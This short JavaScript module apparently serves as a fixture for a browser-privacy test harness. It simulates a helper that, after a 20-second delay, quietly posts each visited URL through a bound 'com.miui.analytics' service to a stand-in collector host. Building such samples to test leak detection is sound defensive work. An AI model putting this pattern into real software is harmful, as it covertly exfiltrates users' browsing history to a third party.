import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Longer than the pages of a story take, and shorter than the wait after them. */
const KEPT_MS = 20_000;

/** Hands addresses to the analytics app, which it binds at the first visit, and which reports them a while later. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-helper');
  let analytics;
  onVisit(browser, ({ url }) => {
    analytics ??= browser.bind('com.miui.analytics', (message, service) =>
      post(service, 'https://helper.collector.example/v1', message),
    );
    browser.after(KEPT_MS, () => analytics.send({ url }));
  });
}
